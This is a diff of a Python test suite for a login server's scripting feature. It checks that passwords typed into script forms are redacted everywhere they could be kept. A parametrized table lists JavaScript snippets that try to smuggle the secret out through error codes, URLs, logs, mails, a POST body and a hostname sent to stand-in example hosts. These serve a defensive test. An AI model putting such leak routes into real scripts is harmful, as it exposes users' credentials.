@@ -1,6 +1,8 @@
 """Secrets that people type into a script's form: the script gets them, and nothing keeps them."""
 
+import io
 import json
+import logging
 from typing import Any
 
 import msgspec
@@ -12,12 +14,13 @@ from identity.authn.login_recording import LoginRecordings, Recording
 from identity.authn.login_trace import LoginTraces
 from identity.storage.login_flows import find_login_flow
 from identity.storage.recorded_logins import list_recorded_logins
+from identity.telemetry import configure_logging
 from tests.support.browser import Page
-from tests.support.builders import Client, Site, response_parameters
+from tests.support.builders import PASSWORD, Client, Site, claims_of, response_parameters
 from tests.support.in_process import TimedSite
 from tests.support.key_manager import administrator, call
 from tests.support.script_admin import script_path
-from tests.support.scripts import begun, denial, scripted, with_password
+from tests.support.scripts import begun, scripted, with_password
 
 pytestmark = [pytest.mark.any_engine, pytest.mark.long]
 
@@ -74,12 +77,12 @@ def everything(found: dict[str, Any]) -> str:
 def test_a_secret_is_in_nothing_that_is_kept(site: Site, why: str) -> None:
     """Attack row 28: a script may hand a secret on to a mail, a call and the log; we keep it in none of them."""
     client = scripted(site, ASKING)
-    asked(site, client).submit("prompt-submit", newPassword=TYPED, why=why)
+    page = asked(site, client).submit("prompt-submit", newPassword=TYPED, why=why)
     found = kept(site)
-    assert TYPED.replace("\\", "") not in everything(found)
-    recording: Recording = found["recording"]
-    flow: LoginRecord = found["flow"]
+    flow: LoginRecord = found.pop("flow")
     assert flow.script is not None
+    assert TYPED.replace("\\", "") not in everything(found | {"script": flow.script})
+    recording: Recording = found["recording"]
     for journal in (recording.journal, flow.script.journal):
         answered = next(answer for answer in journal if answer.key.startswith("prompt:"))
         assert answered.value["request"]["params"] == {"newPassword": ["(withheld)"], "why": [why]}
@@ -87,13 +90,82 @@ def test_a_secret_is_in_nothing_that_is_kept(site: Site, why: str) -> None:
         assert ['"typed": "(withheld)"' in key for key in sent] == ([True] if why == "work" else [])
     assert found["trace"]["log"] == ["typed (withheld)"]
     assert (flow.verdict, flow.denial is None) == (("done", True) if why == "work" else ("denied", False))
+    if why == "stop":
+        # What a script tells the application is not ours to edit.
+        assert response_parameters(page)["error_description"] == f"not {TYPED}"
 
 
-def test_an_error_about_a_secret_is_logged_without_it(timed: TimedSite, capfd: pytest.CaptureFixture[str]) -> None:
-    asked(timed, scripted(timed, ASKING)).submit("prompt-submit", newPassword=TYPED, why="throw")
-    assert denial(timed).startswith("script_error:Error: bad (withheld)")
-    said = capfd.readouterr()
-    assert "ny-5" not in said.out + said.err
+HANDED_ON = {
+    "as an error code": "fail({ errorCode: 'bad_' + typed })",
+    "in the address of an error": "fail({ errorURI: 'https://help.example/?p=' + typed })",
+    "in the address of a page": "sendError('https://help.example/?p=' + typed, {})",
+    "as a name": "const named = {}; named[typed] = 'x'; sendError('https://help.example/', named)",
+    "as a level": "c.selectedAcr = typed",
+    "as a name in a body": "const named = {}; named[typed] = 'x';"
+    " httpPost('https://nowhere.example/', { named }, { onFail() {} })",
+    "as a name in a mail": "sendEmail(c.currentKnownSubject, 'none', { [typed]: 'x' })",
+    "at the end of a line that is cut": "Log.info('x'.repeat(490) + typed)",
+    "at the end of an error that is cut": "throw new Error('x'.repeat(480) + typed)",
+    "as a claim": "c.currentKnownSubject.claims[typed] = 'x'",
+    "as a claim of a store": "c.currentKnownSubject.localClaims['identity/' + typed] = 'x'",
+    "as the name of a mail": "sendEmail(c.currentKnownSubject, typed, {})",
+    "as a host": "httpGet('https://' + typed + '.example/', { onFail() {} })",
+    "in an error": "throw new Error('bad ' + typed)",
+}
+
+
+@pytest.mark.parametrize("how", HANDED_ON)
+def test_wherever_a_script_puts_it(timed: TimedSite, how: str) -> None:
+    typed = "hunter22secret"
+    stream, root = io.StringIO(), logging.getLogger()
+    before = root.handlers[:], root.level
+    configure_logging(timed.in_process.server.settings, stream)
+    try:
+        asked(timed, scripted(timed, passing_on(HANDED_ON[how]))).submit("prompt-submit", newPassword=typed, why="x")
+    finally:
+        root.handlers[:], root.level = before[0], before[1]
+    found = kept(timed)
+    flow: LoginRecord = found.pop("flow")
+    events = [str(tuple(event)) for event in timed.events()]
+    for text in (everything(found | {"script": flow.script}), stream.getvalue(), *events):
+        assert typed[:8] not in text
+
+
+def passing_on(body: str) -> str:
+    return f"""
+    var onLoginRequest = function (context) {{ executeStep(1, {{ onSuccess: function (context) {{
+      prompt('genericForm', {FORM}, {{ onSuccess: function (c) {{
+        var typed = c.request.params.newPassword[0]; {body};
+      }} }});
+    }} }}); }};"""
+
+
+@pytest.mark.parametrize(
+    "typed", ["claim", "high", "nickname", "wso2", "script", "done", "BasicAuthenticator", "PRIMARY"]
+)
+def test_whoever_types_edits_nothing(site: Site, typed: str) -> None:
+    """Attack row 28: a secret that is spelled like something of ours changes no claim, no reason and no person."""
+    body = (
+        "c.currentKnownSubject.claims['http://wso2.org/claims/website'] = 'high';"
+        " c.currentKnownSubject.claims['http://wso2.org/claims/nickname'] = ''"
+    )
+    site.person("kim", nickname="kimmy")
+    client = scripted(site, passing_on(body), id_token_claims="scopes")
+    page = begun(site, client, scope="openid profile")
+    page = page.submit("login-submit", username="kim", password=PASSWORD).submit(
+        "prompt-submit", newPassword=typed, why="x"
+    )
+    claims = claims_of(site.redeem(client, response_parameters(page)["code"]).json()["id_token"])
+    assert claims["website"] == "high"
+    assert "nickname" not in claims
+    recording: Recording = kept(site)["recording"]
+    first = next(answer for answer in recording.journal if answer.key.startswith("step:"))
+    assert (first.value["authenticator"], first.value["subject"]["domain"]) == ("BasicAuthenticator", "PRIMARY")
+    assert {effect["kind"] for effect in recording.effects} == {"session_claim"}
+    client = scripted(site, passing_on("fail({ errorCode: 'too_risky', errorMessage: 'no script done' })"))
+    page = asked(site, client).submit("prompt-submit", newPassword=typed, why="x")
+    assert response_parameters(page)["error_description"] == "no script done"
+    assert kept(site)["trace"]["reason"] == "script"
 
 
 @pytest.mark.parametrize("field", ["{ id: 'word', type: 'password' }", "{ id: 'word_secret' }", "'my.pin'"])
